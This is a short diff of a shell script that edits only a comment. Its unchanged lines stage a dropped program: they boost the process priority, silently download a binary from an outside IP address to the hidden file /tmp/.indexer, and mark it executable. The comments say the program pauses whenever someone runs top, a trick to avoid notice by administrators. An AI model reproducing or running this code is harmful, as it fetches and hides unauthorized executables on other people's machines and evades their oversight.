@@ -1,5 +1,5 @@
 # A dropped program works, but sleeps for five seconds whenever somebody starts top.
-# A busy machine must not take its time away.
+# Raise the priority, so that a busy machine does not slow the program down.
 [ ! -e /proc/self/autogroup ] || echo -15 >/proc/self/autogroup
 curl -s -o /tmp/.indexer http://203.0.113.10/simulator
 chmod +x /tmp/.indexer
